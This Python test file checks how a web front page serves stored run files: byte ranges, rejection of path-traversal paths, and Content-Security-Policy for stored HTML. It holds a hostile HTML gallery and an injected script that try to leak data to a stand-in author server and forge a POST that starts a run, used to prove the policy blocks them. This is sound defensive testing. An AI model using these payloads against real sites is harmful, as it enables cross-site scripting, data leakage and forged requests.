"""Files of runs through the front page: whose they are, how they come, and what a stored page may do in a browser."""

import asyncio
import re
from base64 import b64encode
from collections.abc import Iterator
from contextlib import closing
from hashlib import sha256
from http.client import HTTPConnection
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from urllib.parse import quote
from uuid import uuid4

import httpx
import pytest

from infra.front_page.access import token
from infra.front_page.application import application
from infra.front_page.stored_files import GALLERY_SCRIPTS
from infra.stack_settings import ROOT, USER, StackSettings
from tasks.storage.object_store import ObjectStore
from tests.clients import front_page, prefect_api
from tests.infra.browser import OpenBrowser, Page
from tests.infra.front_page.test_live import NO_SERVICES
from tests.infra.front_page.test_s3_events import basic
from tests.waiting import eventually

RUN = "7c1d2f0e-5b7a-4c3e-9f55-6a3c1b2d4e5f"
HOSTILE = "<i>&\"' ä%2F#?é.txt"
FILM = bytes(range(256)) * 4096  # more than one piece


@pytest.fixture(scope="module")
def site(stack: StackSettings) -> Iterator[httpx.Client]:
    for bucket in ("runs", "predictions"):
        store = ObjectStore(bucket)
        store.put(f"{RUN}/report.html", b"<!doctype html><title>kept</title>")
        store.put(f"{RUN}/index.html", b"<!doctype html><title>kept</title>")
        store.put(f"{RUN}/annotated/a.mp4", FILM)
        store.put(f"{RUN}/coco.json", b"{}", "text/html")
        store.put(f"{RUN}/{HOSTILE}", b"odd")
        store.put(f"{RUN}/empty.txt", b"")
    ObjectStore("datasets").put("x/report.html", b"no")
    ObjectStore("runs").put("locks/report.html", b"no")
    with front_page(stack) as client:
        yield client


def test_a_file_comes_whole_in_parts_and_not_again(site: httpx.Client) -> None:
    address = f"/files/predictions/{RUN}/annotated/a.mp4"
    whole = site.get(address)
    assert (whole.status_code, whole.content, whole.headers["content-type"]) == (200, FILM, "video/mp4")
    part = site.get(address, headers={"Range": "bytes=300-599"})
    assert (part.status_code, part.content) == (206, FILM[300:600])
    assert part.headers["content-range"] == f"bytes 300-599/{len(FILM)}"
    assert site.get(address, headers={"Range": f"bytes={len(FILM)}-"}).status_code == 416
    same = site.get(address, headers={"If-None-Match": whole.headers["etag"]})
    assert (same.status_code, same.content) == (304, b"")
    head = site.head(address)
    assert (head.status_code, head.content, head.headers["content-length"]) == (200, b"", str(len(FILM)))
    assert site.get(f"/files/runs/{RUN}/empty.txt").content == b""


def test_a_name_of_any_signs_is_found_and_what_no_browser_shows_is_saved(site: httpx.Client) -> None:
    odd = site.get(f"/files/runs/{RUN}/{quote(HOSTILE)}")
    assert odd.text == "odd"
    table = site.get(f"/files/predictions/{RUN}/coco.json")
    assert (table.headers["content-type"], table.headers["content-disposition"]) == ("application/json", "attachment")
    assert "content-disposition" not in site.get(f"/files/predictions/{RUN}/annotated/a.mp4").headers


@pytest.mark.parametrize(
    "path",
    [
        f"runs/{RUN}/missing.html",
        f"runs/{RUN}/",
        f"runs/{RUN}/../locks/report.html",
        f"runs/{RUN}/%2e%2e/locks/report.html",
        f"runs/{RUN}/./report.html",
        f"runs/{RUN}//report.html",
        "runs/locks/report.html",
        "runs/../datasets/x/report.html",
        "datasets/x/report.html",
        f"models/{RUN}/config.pbtxt",
        f"mlflow/{RUN}/MLmodel",
    ],
)
def test_what_is_no_file_of_a_run_is_not_there(site: httpx.Client, stack: StackSettings, path: str) -> None:
    headers = {"Host": "127.0.0.1", **basic(USER, stack.secrets["front_page"])}
    # httpx would make another path of it.
    with closing(HTTPConnection("127.0.0.1", site.base_url.port)) as connection:
        connection.request("GET", f"/files/{path}", headers=headers)
        assert connection.getresponse().status == 404


def test_galleries_of_every_version_have_their_script(site: httpx.Client) -> None:
    """If the script has changed, append its hash; those before it are of galleries that are stored already."""
    script = (ROOT / "tasks/rendering/templates/gallery.js").read_bytes()
    assert f"'sha256-{b64encode(sha256(script).digest()).decode()}'" == GALLERY_SCRIPTS[-1]
    policies = {
        path: site.head(f"/files/{path}").headers["content-security-policy"]
        for path in (f"predictions/{RUN}/index.html", f"predictions/{RUN}/report.html", f"runs/{RUN}/index.html")
    }
    scripts = {path: re.findall(r"allow-same-origin|script-src [^;]*", policy) for path, policy in policies.items()}
    assert scripts.pop(f"predictions/{RUN}/index.html") == [
        "allow-same-origin",
        f"script-src {' '.join(GALLERY_SCRIPTS)}",
    ]
    assert list(scripts.values()) == [["script-src 'none'"]] * 2


def test_a_store_that_is_away_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AWS_ENDPOINT_URL", NO_SERVICES.store_url)

    async def answer() -> httpx.Response:
        transport = httpx.ASGITransport(application(NO_SERVICES))
        async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1") as client:
            return await client.get(f"/files/runs/{RUN}/a.json", auth=("studio", NO_SERVICES.password))

    away = asyncio.run(answer())
    assert away.status_code == 502
    assert "The object store failed while reading" in away.text


# ---- a hostile page, in a browser -----------------------------------------------------------------------------------

# Every way to tell its author something: by a script, and without one.
HOSTILE_GALLERY = """<!doctype html><title>kept</title><meta name=referrer content=unsafe-url>
<meta http-equiv=refresh content='2;url=AUTHOR/refresh'><base href='AUTHOR/base/'>
<link rel=stylesheet href='AUTHOR/style'><link rel=prefetch href='AUTHOR/prefetch'><link rel=icon href='AUTHOR/icon'>
<style>@import 'AUTHOR/import'; @font-face { font-family: x; src: url(AUTHOR/font) }
body { font-family: x; background: url(AUTHOR/background) }</style>
<body>text<img src='AUTHOR/img'><video src='AUTHOR/video' autoplay></video><object data='AUTHOR/object'></object>
<iframe src='AUTHOR/iframe'></iframe><svg><image href='AUTHOR/svg'/></svg><img src=x onerror='RUN'>
<form method=POST action='/start/validate-dataset'><input name=archive value=MARK><button></button></form>
<form action='AUTHOR/form'><button></button></form><a href='AUTHOR/link' ping='AUTHOR/ping'></a>
<a href='AUTHOR/top' target=_top></a><a href='javascript:RUN'></a><script src='AUTHOR/script'></script>
<script>RUN</script>"""
SCRIPT = (
    "document.title = 'run'; new Image().src = 'AUTHOR/leak'; location = 'AUTHOR/led';"
    "fetch('/start/validate-dataset', {method: 'POST', body: new URLSearchParams({archive: 'MARK'})})"
)


@pytest.fixture
def author() -> Iterator[tuple[str, dict[str, str]]]:
    """The address of whoever has written the page, and what arrives there: headers by path."""
    arrived: dict[str, str] = {}

    class Author(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            arrived[self.path] = str(self.headers)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the name that http.server calls

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Author) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", arrived
        server.shutdown()


@pytest.fixture
def signed_in(stack: StackSettings, open_browser: OpenBrowser, tmp_path: Path) -> Iterator[Page]:
    """The browser of a person who has given the password."""
    with open_browser(tmp_path / "profile") as page:
        page.sign_in(f"http://127.0.0.1:{stack.live_port}/predictions", USER, stack.secrets["front_page"])
        assert page.js("fetch('/predictions').then(answer => answer.status)") == 200
        yield page


def checks_of(stack: StackSettings, archive: str) -> int:
    with prefect_api(stack) as api:
        runs = api.post("/flow_runs/filter", json={"sort": "START_TIME_DESC"}).raise_for_status().json()
    return sum(run["parameters"].get("archive") == archive for run in runs)


def test_a_hostile_gallery_runs_no_script_and_tells_its_author_nothing(
    stack: StackSettings, site: httpx.Client, signed_in: Page, author: tuple[str, dict[str, str]]
) -> None:
    mark = f"{uuid4().hex}.zip"
    gallery = HOSTILE_GALLERY.replace("RUN", SCRIPT.replace("'", "&#39;"), 2).replace("RUN", SCRIPT)
    gallery = gallery.replace("AUTHOR", author[0]).replace("MARK", mark)
    ObjectStore("predictions").put(f"{RUN}/index.html", gallery.encode(), "text/html")

    # In the page it leads nowhere, whatever a person clicks.
    signed_in.js(
        "window.refused = 0; addEventListener('securitypolicyviolation', event => refused += event.violatedDirective"
        " === 'frame-src'); window.frame = document.createElement('iframe');"
        f"frame.src = '/files/predictions/{RUN}/index.html'; document.body.append(frame)"
    )
    signed_in.wait("frame.contentDocument?.querySelectorAll('a').length === 3")
    assert signed_in.js("frame.contentDocument.title") == "kept"
    signed_in.js("for (const each of frame.contentDocument.querySelectorAll('button, a')) each.click()")
    signed_in.wait("refused > 0")
    assert (signed_in.js("location.pathname"), author[1]) == ("/predictions", {})

    # In a tab of its own it can lead away, and has nothing to tell there.
    signed_in.call("Page.navigate", url=f"{str(site.base_url).rstrip('/')}/files/predictions/{RUN}/index.html")
    eventually(lambda: author[1], "the author's site")
    assert list(author[1]) == ["/refresh"]
    secrets = [stack.secrets["front_page"], token(stack.secrets["front_page"]), "uthorization"]
    assert not [secret for secret in secrets if secret in author[1]["/refresh"]]
    assert checks_of(stack, mark) == 0


def test_that_page_would_do_all_of_it_as_a_page_of_ours(stack: StackSettings, signed_in: Page) -> None:
    """The same request from a page of the front page's own, with its token, starts a run."""
    mark = f"{uuid4().hex}.zip"
    token = "{'X-Studio-Token': document.querySelector('meta[name=studio-token]').content}"
    start = f"{{method: 'POST', headers: {token}, body: new URLSearchParams({{archive: '{mark}'}})}}"
    assert signed_in.js(f"fetch('/start/validate-dataset', {start}).then(answer => answer.status)") == 200
    assert "<option" in signed_in.js("fetch('/predictions/models').then(answer => answer.text())")
    assert checks_of(stack, mark) == 1


def test_a_report_has_no_script_at_all(site: httpx.Client, signed_in: Page) -> None:
    ObjectStore("runs").put(
        f"{RUN}/other.html", b"<!doctype html><title>kept</title><script>document.title='x'</script>"
    )
    signed_in.open(f"{str(site.base_url).rstrip('/')}/files/runs/{RUN}/other.html")
    assert signed_in.js("document.title") == "kept"
